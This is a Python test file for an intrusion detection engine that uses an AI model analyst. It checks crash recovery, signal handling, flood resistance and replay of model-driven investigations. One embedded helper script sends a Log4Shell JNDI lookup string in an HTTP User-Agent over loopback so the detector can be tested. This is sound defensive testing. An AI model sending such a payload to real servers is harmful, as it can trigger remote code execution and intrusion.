"""The program is killed, stopped, flooded or not listened to, and nothing that it accepted is lost."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from engine import paths
from engine.recovery import recovered
from engine.store.database import open_store
from engine.types import Alert, Detection, Disposition, Fault, Frame, Recovery, Verdict
from tests.engine.bench import (
    JNDI,
    PATIENCE_S,
    Wire,
    assert_accounted,
    attack,
    few_rules,
    knowledge_cache,
    live_plan,
    locked,
    of_kind,
    replay_plan,
    run,
    running,
    stored,
)
from tests.factories import SYN, conversation, frame, ipv4, pcap_file, tcp
from tests.model_server import Refuse, Reply, Request, Say, Stall, serving

FLOOD_SOURCES = 200_000
"""Three times as many as the flow table has places."""
FLOOD_RSS_MB = 650
"""A third more than the full table and the engine take; the model, the analyst and the rules are the larger part."""

VERDICT = json.dumps({"conclusion": "malicious", "severity": "critical", "summary": "An exploit.", "ask_block": True})
KINDS = ("alert", "incident", "verdict", "proposal")


def _environ(home: Path, **more: str) -> dict[str, str]:
    environ = {
        name: value for name, value in os.environ.items() if not name.startswith(("AEGIS_", "OPENAI_", "MODEL_"))
    }
    (home / "aegis").mkdir(exist_ok=True)
    shared = home / "aegis" / "knowledge.db"
    if not shared.exists():
        shared.hardlink_to(knowledge_cache())
    return environ | {"XDG_STATE_HOME": str(home), "XDG_CONFIG_HOME": str(home)} | more


LAUNCHER = "import sys; from aegis_tui.cli import main; status = main()"
MEASURED = f"{LAUNCHER}; print(*(line for line in open('/proc/self/status') if 'VmHWM' in line), file=sys.stderr)"


@contextmanager
def _program(home: Path, *words: str, launcher: str = LAUNCHER, **environ: str) -> Iterator[subprocess.Popen[str]]:
    command = [sys.executable, "-c", f"{launcher}; sys.exit(status)", *words, "--rules", str(few_rules())]
    with subprocess.Popen(
        command, env=_environ(home, **environ), cwd=paths.ROOT, text=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    ) as process:  # fmt: skip
        try:
            yield process
        finally:
            process.kill()


def _replayed(home: Path, what: Path | str, **environ: str) -> list[dict[str, Any]]:
    with _program(home, "replay", str(what), "--headless", "--json", **environ) as process:
        out, err = process.communicate(timeout=60)
    assert (process.returncode, err) == (0, "")
    return [json.loads(line) for line in out.splitlines()]


def _first(process: subprocess.Popen[str], kind: str) -> dict[str, Any]:
    assert process.stdout is not None
    for line in process.stdout:
        event: dict[str, Any] = json.loads(line)
        if event["type"] == kind:
            return event
    raise AssertionError(f"the program ended without a {kind}")


class Stalling:
    """A script that never answers, and tells when it was asked."""

    def __init__(self) -> None:
        self.asked = threading.Event()

    def __call__(self, _: Request) -> Reply:
        self.asked.set()
        return Stall()


# --- killed -----------------------------------------------------------------------------------


@pytest.mark.parametrize("last_seen", ["alert", "incident"])
async def test_a_replay_that_was_killed_is_made_whole_by_the_next(tmp_path: Path, last_seen: str) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    stalling = Stalling()
    with serving(stalling) as server:
        asking = {"OPENAI_BASE_URL": server.url}
        with _program(tmp_path, "replay", str(capture), "--headless", "--json", **asking) as process:
            _first(process, last_seen)
            if last_seen == "incident":
                assert stalling.asked.wait(PATIENCE_S)
            process.send_signal(signal.SIGKILL)
            process.wait()
    again = _replayed(tmp_path, capture)
    (view,) = await stored(tmp_path / "aegis")
    assert view.verdict is not None
    assert {alert.id for alert in view.alerts} == {event["id"] for event in again if event["type"] == "alert"}
    assert [step.seq for step in view.steps] == list(range(1, len(view.steps) + 1))


LIVE = """
import asyncio, sys
from pathlib import Path
from engine.core import Engine
from tests.engine.bench import Wire, attack, live_plan, settings
folder, knowledge, url, at = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], float(sys.argv[4])
wire = Wire()
wire.send(attack(at=at))
asking = settings(openai_base_url=url, model_name="scripted")
def say(event):
    print(type(event).__name__, flush=True)
asyncio.run(Engine(live_plan(folder, wire, settings=asking, knowledge=knowledge), None, say).run())
"""


def _killed_while_investigating(folder: Path, at: float) -> None:
    """Let an engine see an attack and ask a model, and kill it before the answer."""
    stalling = Stalling()
    with serving(stalling) as server:
        words = [sys.executable, "-c", LIVE, str(folder), str(knowledge_cache()), server.url, str(at)]
        with subprocess.Popen(words, cwd=paths.ROOT, stdout=subprocess.DEVNULL) as process:
            assert stalling.asked.wait(PATIENCE_S)
            # The incident and the steps so far are written within the writer's idle time, before a model answers.
            _until_stored(folder)
            process.send_signal(signal.SIGKILL)
            process.wait()


def _until_stored(folder: Path) -> None:
    async def look() -> bool:
        async with open_store(folder / "aegis.db") as store:
            incidents = await store.incidents()
            return bool(incidents) and (await store.held(incidents[0].id))[0] > 0

    while not asyncio.run(look()):
        pass


async def test_an_incident_of_an_engine_that_was_killed_is_investigated_at_the_next_start(tmp_path: Path) -> None:
    began = time.time() - 10
    await asyncio.to_thread(_killed_while_investigating, tmp_path, began)
    (before,) = await stored(tmp_path)
    async with open_store(tmp_path / "aegis.db") as store:
        inputs = await store.inputs(before.incident.id)
    assert before.verdict is None

    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        told = await at_work.hears(Recovery)
        assert (told.incidents, told.alerts, told.investigations) == (1, len(before.alerts), 1)
        assert began <= told.last_record_at <= told.at
        assert (await at_work.hears(Verdict)).incident_id == before.incident.id
        wire.send(attack(at=began + 9))
        await at_work.hears(Detection, lambda detection: detection.at > began + 9)
    (after,) = await stored(tmp_path)
    assert of_kind(at_work.events, Alert) == []
    assert [alert.id for alert in after.alerts] == [alert.id for alert in before.alerts]
    assert [alert.count for alert in after.alerts] == [2 * alert.count for alert in before.alerts]
    assert after.steps[: len(before.steps)] == before.steps
    assert len(after.steps) > len(before.steps)
    async with open_store(tmp_path / "aegis.db") as store:
        assert (await store.inputs(before.incident.id))[: len(inputs)] == inputs
    assert_accounted(at_work.engine)


async def test_an_incident_is_investigated_however_long_the_engine_was_away(tmp_path: Path) -> None:
    await asyncio.to_thread(_killed_while_investigating, tmp_path, time.time() - 86_400)
    async with running(live_plan(tmp_path, Wire())) as at_work:
        await at_work.hears(Verdict)
    assert [view.verdict is not None for view in await stored(tmp_path)] == [True]


async def test_until_it_has_read_what_is_stored_an_engine_says_so_rather_than_that_there_is_nothing(
    tmp_path: Path,
) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack())
        await at_work.hears(Verdict)
    async with running(live_plan(tmp_path, Wire())) as at_work:
        engine = at_work.engine
        assert engine.snapshot().status.loading == "reading what is stored"
        while (seen := engine.snapshot()).status.loading:  # noqa: ASYNC110 - the state is polled, as a console does
            await asyncio.sleep(0.01)
        assert len(seen.incidents) == 1


async def test_what_a_person_made_of_an_incident_outlives_the_engine(tmp_path: Path) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack())
        verdict = await at_work.hears(Verdict)
        await at_work.engine.set_disposition(verdict.incident_id, Disposition.FALSE_POSITIVE)
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        wire.send(attack(at=time.time() + 1))
        await at_work.hears(Detection)
    assert [view.incident.disposition for view in await stored(tmp_path)] == [Disposition.FALSE_POSITIVE]


IN_A_HOST_OF_ITS_OWN = """
import json, os, signal, socket, sqlite3, subprocess, sys, threading, time
from contextlib import closing
for command in ("mount -t tmpfs flt /var/lib", "mount -t tmpfs flt /run", "ip link set lo up"):
    subprocess.run(command.split(), check=True)
def start():
    words = ["--iface", "lo", "--headless", "--json", "--with", "detection", "--no-dataplane", "--rules", sys.argv[1]]
    code = "import sys; from aegis_tui.cli import main; sys.exit(main())"
    return subprocess.Popen([sys.executable, "-c", code, *words], text=True, stdout=subprocess.PIPE)
def first(process, kind):
    for line in process.stdout:
        event = json.loads(line)
        if event["type"] == kind:
            return event
def attack():
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        other, _ = server.accept()
        with other:
            client.sendall(b"GET / HTTP/1.1\\r\\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\\r\\n\\r\\n")
            other.recv(1000)
def attacks(until):
    while not until.wait(0.2):
        attack()
seen = threading.Event()
attacker = threading.Thread(target=attacks, args=(seen,))
attacker.start()
killed = start()
before = first(killed, "incident")
database = "file:/var/lib/aegis/engine/aegis.db?mode=ro"
with closing(sqlite3.connect(database, uri=True)) as raw:
    while raw.execute("SELECT id FROM incident").fetchall() != [(before["id"],)]:
        pass
seen.set()
attacker.join()
killed.send_signal(signal.SIGKILL)
killed.wait()
seen.clear()
attacker = threading.Thread(target=attacks, args=(seen,))
again = start()
attacker.start()
kinds = []
verdict = recovery = None
while verdict is None:
    event = json.loads(again.stdout.readline())
    recovery = event if event["type"] == "recovery" else recovery
    kinds.append(event["type"])
    verdict = event if event["type"] == "verdict" else None
first(again, "detection")
seen.set()
attacker.join()
again.send_signal(signal.SIGTERM)
summary = json.loads(again.stdout.read().splitlines()[-1])
status = again.wait()
print(verdict["incident_id"] == before["id"], "alert" in kinds, summary["type"], summary["alerts"], status)
print(kinds.count("recovery"), recovery["incidents"], recovery["investigations"], recovery["blocks"])
logged = [line for line in open("/var/lib/aegis/engine/aegis.log") if "the last run broke off after" in line]
print(len(logged), "1 investigation resumed" in logged[0])
attacker = threading.Thread(target=attacks, args=(seen,))
seen.clear()
attacker.start()
after = start()
lines = []
while not lines or json.loads(lines[-1])["type"] != "detection":
    lines.append(after.stdout.readline())
seen.set()
attacker.join()
after.send_signal(signal.SIGTERM)
print("recovery" in "".join(lines) + after.stdout.read())
assert summary["detections"] == summary["alerts"] + summary["deduplicated"]
"""


@pytest.mark.root
@pytest.mark.skipif(os.geteuid() != 0, reason="needs root for a network namespace and live capture")
def test_a_live_program_that_is_killed_takes_its_incident_up_again_and_a_signal_ends_it(tmp_path: Path) -> None:
    done = subprocess.run(
        ["unshare", "--net", "--mount", sys.executable, "-c", IN_A_HOST_OF_ITS_OWN, few_rules()],
        env=_environ(tmp_path), capture_output=True, text=True, timeout=90, check=False, cwd=paths.ROOT,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout == "True False summary 0 0\n1 1 1 0\n1 True\nFalse\n"


# --- said -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("recovery", "words"),
    [
        (Recovery(9.0, 5.0, 0, 0, 0, 0, None), "no incident was open"),
        (Recovery(9.0, 5.0, 0, 0, 0, 0, 1), "no incident was open, 1 block in force"),
        (
            Recovery(9.0, 5.0, 3, 12, 1, 2, 0),
            "3 open incidents, 12 alerts, 1 investigation resumed, 2 proposals to decide, 0 blocks in force",
        ),
    ],
    ids=["nothing", "a block", "all"],
)
def test_what_was_recovered_is_one_line(recovery: Recovery, words: str) -> None:
    said = recovered(recovery, lambda at: f"second {at:g}")
    assert said == f"the last run broke off after second 5: {words}"


# --- stopped ----------------------------------------------------------------------------------


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP], ids=lambda number: number.name)
async def test_a_signal_ends_a_replay_though_a_model_stalls(tmp_path: Path, number: signal.Signals) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    stalling = Stalling()
    with serving(stalling) as server:
        asking = {"OPENAI_BASE_URL": server.url}
        with _program(tmp_path, "replay", str(capture), "--headless", "--json", **asking) as process:
            assert stalling.asked.wait(PATIENCE_S)
            process.send_signal(number)
            out, err = process.communicate(timeout=15)
    assert (process.returncode, err) == (0, "")
    lines = [json.loads(line) for line in out.splitlines()]
    assert (lines[-1]["type"], lines[-1]["alerts"]) == ("summary", sum(line["type"] == "alert" for line in lines))
    (view,) = await stored(tmp_path / "aegis")
    assert {alert.id for alert in view.alerts} == {line["id"] for line in lines if line["type"] == "alert"}


async def test_an_engine_stopped_before_it_could_read_ends_at_once(tmp_path: Path) -> None:
    async with running(live_plan(tmp_path, Wire())) as at_work:
        at_work.engine.stop()
        async with asyncio.timeout(PATIENCE_S):
            await at_work.engine.finished.wait()


async def test_an_engine_stopped_while_its_database_is_locked_ends_and_says_what_is_lost(tmp_path: Path) -> None:
    wire = Wire()
    async with running(live_plan(tmp_path, wire)) as at_work:
        await at_work.engine._caseload.ready.wait()
        async with locked(tmp_path / "aegis.db"):
            wire.send(attack())
            await at_work.hears(Verdict)
            at_work.engine.stop()
            await at_work.hears(Fault, lambda fault: "rows are lost" in fault.message)


def test_a_reader_that_goes_away_ends_the_program_without_a_traceback(tmp_path: Path) -> None:
    frames = [one for number in range(1, 9) for one in attack(f"203.0.113.{number}", at=1000 + number)]
    capture = pcap_file(tmp_path / "a.pcap", frames)
    with _program(tmp_path, "replay", str(capture), "--headless", "--json") as process:
        _first(process, "alert")
        assert process.stdout is not None
        process.stdout.close()
        assert process.stderr is not None
        assert process.stderr.read() == ""
        assert process.wait(20) == 128 + signal.SIGPIPE


def test_a_capture_whose_name_is_no_text_is_replayed_and_stored(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / os.fsdecode(b"\xff\xfe.pcap"), attack(at=1000))
    kinds = [event["type"] for event in _replayed(tmp_path, capture)]
    assert kinds.count("verdict") == 1
    assert "fault" not in kinds


# --- flooded ----------------------------------------------------------------------------------


def _flood(sources: int) -> Iterator[Frame]:
    exploit = [one._replace(ts=one.ts + 15) for one in conversation(JNDI)]
    for number in range(sources):
        if number == sources // 2:
            yield from exploit
        src_ip = f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}"
        segment = tcp(1024 + number % 60_000, 80, seq=number, flags=SYN)
        yield frame(ipv4(segment, src=src_ip), 1000 + 30 * number / sources)


def _measured(home: Path, capture: Path) -> tuple[list[dict[str, Any]], float]:
    """Return what a replay printed, and the most memory it held, in MiB."""
    with _program(home, "replay", str(capture), "--headless", "--json", launcher=MEASURED) as process:
        out, err = process.communicate(timeout=120)
    return [json.loads(line) for line in out.splitlines()], int(err.split()[1]) / 1024


async def test_a_flood_of_lone_packets_stays_within_memory_and_hides_no_attack(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "flood.pcap", _flood(FLOOD_SOURCES))
    lines, peak_mb = await asyncio.to_thread(_measured, tmp_path, capture)
    summary = lines[-1]
    assert summary["delivered"] == FLOOD_SOURCES + len(conversation(JNDI)) == summary["parsed"]
    assert summary["detections"] == summary["alerts"] + summary["deduplicated"]
    assert "log4shell.jndi" in {line["detection"]["label"] for line in lines if line["type"] == "alert"}
    assert [view.verdict is not None for view in await stored(tmp_path / "aegis")] == [True]
    assert peak_mb < FLOOD_RSS_MB
    assert (tmp_path / "aegis" / "aegis.db").stat().st_size < 1 << 20


# --- the model's path, whole ------------------------------------------------------------------


def _scripted(request: Request) -> Reply:
    """Call a tool first, talk as the commander, and conclude when asked for the verdict."""
    last = str(request["messages"][-1].get("content"))
    if not any(message["role"] == "tool" for message in request["messages"]):
        return Say(calls=(("flow_payload", {}),))
    return Say(VERDICT if "JSON" in last else "I have seen enough.")


async def test_a_model_drives_an_investigation_and_its_answers_replay_offline_to_the_same_lines(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    with serving(_scripted) as server:
        asking = {"OPENAI_BASE_URL": server.url, "OPENAI_API_KEY": "sk-test", "MODEL_NAME": "scripted"}
        first = _replayed(tmp_path, capture, **asking)
        assert all(request["stream"] for request in server.requests)
        assert any("tools" in request for request in server.requests)
        assert {
            value for sent in server.headers for name, value in sent.items() if name.lower() == "authorization"
        } == {"Bearer sk-test"}
    (verdict,) = [line for line in first if line["type"] == "verdict"]
    assert (verdict["analyst"], verdict["summary"]) == ("scripted", "An exploit.")
    (view,) = await stored(tmp_path / "aegis")
    assert {step.name for step in view.steps} >= {"scripted", "flow_payload"}
    again = _replayed(tmp_path, view.incident.id)
    assert [line for line in again if line["type"] in KINDS] == [line for line in first if line["type"] in KINDS]


async def test_an_answer_that_failed_replays_to_the_same_lines(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "a.pcap", attack(at=1000))
    with serving(lambda _: Refuse(429, headers=(("retry-after-ms", "10"),))) as server:
        first = _replayed(tmp_path, capture, OPENAI_BASE_URL=server.url)
    (view,) = await stored(tmp_path / "aegis")
    again = _replayed(tmp_path, view.incident.id)
    assert [line for line in again if line["type"] in KINDS] == [line for line in first if line["type"] in KINDS]


async def test_many_captures_leave_no_desk_behind(tmp_path: Path) -> None:
    files = [pcap_file(tmp_path / f"{number}.pcap", attack(at=1000 + number)) for number in range(3)]
    engine, events = await run(replay_plan(tmp_path, *files))
    assert engine._tally.desks == []
    assert engine.counters().alerts == len({alert.id for alert in of_kind(events, Alert)})
    assert_accounted(engine)
